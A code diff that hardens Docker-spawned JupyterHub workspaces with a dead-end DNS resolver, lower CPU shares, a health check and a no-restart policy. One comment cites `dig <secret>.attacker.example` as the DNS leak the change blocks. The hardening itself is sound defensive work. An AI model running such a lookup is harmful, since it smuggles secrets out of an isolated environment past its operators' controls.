@@ -10,6 +10,31 @@ from .plan import HOME, WorkspacePlan
 
 WORKSPACE_UID = "1000:1000"
 
+# The upstream resolver Docker's embedded DNS (127.0.0.11) forwards outside names to. Docker Engine
+# before 26.0 forwards lookups from internal networks (CVE-2024-29018); a loopback resolver from the
+# host's resolv.conf is even dialled from the host's namespace, so `dig <secret>.attacker.example`
+# would leave the enclave. A resolver named here is dialled inside the container's own network
+# namespace (measured on 20.10), where nothing listens on port 53: outside names fail inside the
+# container, and no query reaches the host or beyond (tests/security/test_dns.py).
+DNS_NOWHERE = "127.0.0.1"
+
+# A lower share than Docker's default 1024: under contention the hub and proxy win (CIS 5.12).
+CPU_SHARES = 512
+
+SECONDS = 1_000_000_000  # Docker gives health check times in nanoseconds
+
+# CIS 5.27: the engine records whether the server answers. Jupyter's /api answers without a login.
+# (DockerSpawner formats these strings with str.format: no braces.)
+HEALTHCHECK = {
+    "test": ["CMD", "python3", "-c",
+             "import os, urllib.request as u; "
+             "u.urlopen(os.environ['JUPYTERHUB_SERVICE_URL'].replace('0.0.0.0', '127.0.0.1') + 'api', timeout=10)"],
+    "interval": 60 * SECONDS,
+    "timeout": 15 * SECONDS,
+    "retries": 3,
+    "start_period": 60 * SECONDS,
+}
+
 
 def host_config(plan: WorkspacePlan, scratch_size: str) -> dict:
     """docker-py host_config keyword arguments (merged over DockerSpawner's own)."""
@@ -25,6 +50,9 @@ def host_config(plan: WorkspacePlan, scratch_size: str) -> dict:
         "tmpfs": {"/tmp": f"rw,nosuid,nodev,size={scratch_size},mode=1777"},
         "devices": [],
         "ulimits": [{"Name": "core", "Soft": 0, "Hard": 0}],
+        "dns": [DNS_NOWHERE],
+        "cpu_shares": CPU_SHARES,
+        "restart_policy": {"Name": "no"},  # the hub decides whether a workspace runs, not the engine
     }
 
 
